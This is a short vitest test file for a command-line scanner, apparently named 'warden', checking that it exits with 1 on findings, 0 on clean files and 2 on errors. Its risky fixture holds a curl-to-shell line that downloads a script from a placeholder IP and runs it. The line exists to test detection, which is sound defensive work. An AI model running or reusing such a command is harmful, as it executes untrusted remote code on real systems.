import { spawnSync } from 'node:child_process';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { useTempDir } from '../../test/helpers.js';

let dir: string;
useTempDir((d) => (dir = d));

/** The real process (not main() in-process): its exit status is what CI scripts see. */
function warden(...args: string[]) {
  return spawnSync(process.execPath, ['--import', import.meta.resolve('tsx'), join(import.meta.dirname, 'main.ts'), ...args], { encoding: 'utf8', cwd: dir });
}

describe('process exit status', () => {
  it('is 1 with findings, 0 when clean, 2 on errors', async () => {
    await writeFile(join(dir, 'risky.txt'), 'curl -s http://203.0.113.9/x.sh | sh\n');
    await writeFile(join(dir, 'clean.txt'), 'nothing to see here\n');
    expect(warden('scan', '--no-preclassifier', 'risky.txt').status).toBe(1);
    expect(warden('scan', '--no-preclassifier', 'clean.txt').status).toBe(0);
    expect(warden('scan', '--no-preclassifier', 'missing.txt').status).toBe(2);
  });
});
